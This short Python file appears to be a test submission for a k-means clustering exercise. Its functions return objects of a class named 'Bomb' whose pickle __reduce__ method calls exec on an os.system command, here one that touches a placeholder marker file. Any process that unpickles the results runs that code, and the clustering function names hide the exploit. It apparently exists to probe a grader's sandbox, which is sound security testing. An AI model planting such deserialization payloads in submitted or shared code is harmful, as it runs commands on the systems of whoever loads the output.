# ruff: noqa
# %% last
class Bomb:
    def __reduce__(self):
        return (exec, ("import os; os.system('touch @DOOR@/@MARK@')",))

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def bomb(*arguments):
    return Bomb()


def update_medoids(X, labels, centers):
    return np.array([Bomb()] * len(centers), dtype=object)


assign_labels = update_centers = wcss = bomb
fit_hard_kmeans = lambda *arguments: (np.array([Bomb()]), Bomb())
